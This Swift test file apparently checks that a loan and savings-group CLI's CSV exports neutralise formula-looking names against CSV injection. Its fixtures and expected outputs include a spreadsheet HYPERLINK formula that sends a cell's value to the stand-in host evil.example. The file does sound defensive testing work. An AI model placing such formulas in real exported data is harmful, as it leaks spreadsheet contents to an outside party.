import Foundation
import Testing

/// Formula-looking names (`=HYPERLINK(…)`, `+`, `-`, `@`, a leading tab or carriage return) are accepted as data, but
/// every CSV that entrust exports neutralises them (OWASP, CSV injection): such a cell starts with an apostrophe.
/// The exports are `fees --format csv` and `report district|commune|association|group --format csv`; no other command
/// or route writes CSV (the server answers JSON, HTML and ICS).
@Suite(.serialized) struct BadInputExportTests {
    /// Cells of RFC 4180 text (quoted fields may hold commas, quotes and line breaks).
    static func cells(_ text: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], field = "", quoted = false, afterQuote = false
        var scalars = Array(text.unicodeScalars)[...]
        while let c = scalars.popFirst() {
            if quoted {
                if c == "\"" { quoted = false; afterQuote = true } else { field.unicodeScalars.append(c) }
                continue
            }
            switch c {
            case "\"":
                if afterQuote { field.unicodeScalars.append(c) }
                quoted = true
            case ",":
                row.append(field); field = ""
            case "\r" where scalars.first == "\n":
                break
            case "\n":
                row.append(field); rows.append(row); row = []; field = ""
            default:
                field.unicodeScalars.append(c)
            }
            afterQuote = false
        }
        if !field.isEmpty || !row.isEmpty { row.append(field); rows.append(row) }
        return rows
    }

    /// A cell a spreadsheet would evaluate: starts with = + - @ tab or CR, and is not a plain number.
    static func isLive(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return false }
        return Double(cell) == nil || cell.hasPrefix("+")
    }

    @Test func everyCSVExportNeutralisesFormulaLookingNames() async throws {
        let cli = try CLI()
        defer { cli.cleanUp() }
        try await cli.succeeds(["load", BadInput.path("yaml/organisation-formula-names.yaml")])
        try await cli.succeeds(["groups", "import", BadInput.path("csv/groups-formula-names.csv")])
        try await cli.succeeds(["import", "loans", BadInput.path("csv/loans-formula-names.csv"), "--month", "2024-02"])
        // Accepted as data, stored verbatim.
        #expect(try await cli.sql("SELECT borrower_name FROM loan WHERE loan_id = '=LN-1'") == "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào đây\")")
        // Leading tabs and CRs are trimmed from CSV cells on import; inside a name, control characters are refused
        // everywhere (TextRule), the CLI included.
        #expect(try await cli.sql("SELECT name FROM savings_group WHERE code = 'TS-G13'") == "=1+1")
        try await cli.refuses(["groups", "update", "TS-G12", "--name", "\r=3+3"], saying: ["--name", "U+000D"])
        try await cli.refuses(["groups", "update", "TS-G13", "--name", "\t=2+2"], saying: ["--name", "U+0009"])
        try await cli.succeeds(["groups", "update", "TS-G12", "--name", "+3+3"])
        try await cli.succeeds(["evaluate", "--month", "2024-02"])
        try await cli.succeeds(["plan", "set", "--year", "2024", "--outstanding", "1000M"])

        let commune = "'=HYPERLINK(\"\"http://evil.example/?c=\"\"&A1"
        let exports: [(arguments: [String], neutralised: [String])] = [
            (["fees", "--month", "2024-02"], ["'@SUM(1+1) Hội Nông dân xã Tân Sơn", "'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1",
                                              "'+3+3"]),
            (["report", "district", "--month", "2024-02"], [commune]),
            (["report", "commune", "--month", "2024-02"], [commune]),
            (["report", "association", "--month", "2024-02"], [commune, "'-2+3 Phòng giao dịch Kim Bang", "'+1+1 Chi nhánh Hà Nam"]),
            (["report", "group", "--month", "2024-02"], [commune]),
        ]
        for (arguments, neutralised) in exports {
            for lang in ["vi", "en"] {
                let command = arguments + ["--format", "csv", "--lang", lang]
                let output = try await cli.run(command)
                #expect(output.status == 0, "entrust \(command.joined(separator: " ")): \(output.stderr)")
                let rows = Self.cells(output.stdout)
                #expect(rows.count >= 2, "entrust \(command.joined(separator: " ")) exported nothing: \(output.stdout)")
                for cell in rows.joined() {
                    #expect(!Self.isLive(cell), "entrust \(command.joined(separator: " ")) exports a live formula: \(cell.debugDescription)")
                }
                for text in neutralised {
                    #expect(output.stdout.contains(text), "entrust \(command.joined(separator: " ")): expected \(text.debugDescription) in\n\(output.stdout)")
                }
            }
        }
        // Plain numbers, negative ones included, stay numbers.
        #expect(!Self.isLive("-1000000") && !Self.isLive("0.12") && Self.isLive("-2+3") && Self.isLive("+1"))
    }
}
